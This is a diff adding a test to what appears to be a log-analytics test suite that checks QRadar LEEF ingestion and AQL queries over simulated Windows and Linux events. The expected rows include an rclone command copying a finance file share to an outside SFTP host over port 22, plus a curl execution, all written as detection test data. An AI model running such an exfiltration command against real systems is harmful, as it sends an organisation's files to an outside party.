@@ -90,6 +90,30 @@ describe('events of QRadar', () => {
     expect(await rowsOf(session, 'aql', line)).toEqual([{ username: 'J.Doe' }])
   })
 
+  test('are read as LEEF, with the predefined keys in columns and all else under its own name', async () => {
+    const all = [...windows, ...linux]
+    const session = await sessionOver(QRADAR, 'leef', all)
+    const { counts, diagnostics } = session.ingested
+    expect([counts.read, counts.rejected, counts.unmapped, diagnostics]).toEqual([all.length, 0, 0, []])
+    const starts = `SELECT qideventid, username, "CommandLine", "ParentImage", DATEFORMAT(devicetime, 'yyyy-MM-dd HH:mm:ss.SSS') AS at
+      FROM events WHERE qideventcategory ILIKE '%sysmon%' AND qideventid = '1' AND "CommandLine" ILIKE 'rclone%'`
+    expect(await rowsOf(session, 'aql', starts)).toEqual([
+      {
+        qideventid: '1',
+        username: 'J.Doe',
+        CommandLine: 'rclone.exe copy C:\\Shares\\Finance :sftp:inbox --sftp-host 93.184.215.14',
+        ParentImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+        at: '2026-03-02 09:14:04.003',
+      },
+    ])
+    const connections = `SELECT destinationip, destinationport, protocolid FROM events WHERE qideventid = '5156' AND destinationport = 22`
+    expect(await rowsOf(session, 'aql', connections)).toEqual([
+      { destinationip: '93.184.215.14', destinationport: 22, protocolid: 6 },
+    ])
+    const calls = `SELECT username, exe FROM events WHERE qideventid = 'SYSCALL' AND key = 'exec'`
+    expect(await rowsOf(session, 'aql', calls)).toEqual([{ username: 'jdoe', exe: '/usr/bin/curl' }])
+  })
+
   test('are the same events when the lines of log sources are read', async () => {
     const session = await sessionOver(QRADAR, 'lines', windows)
     const { counts } = session.ingested
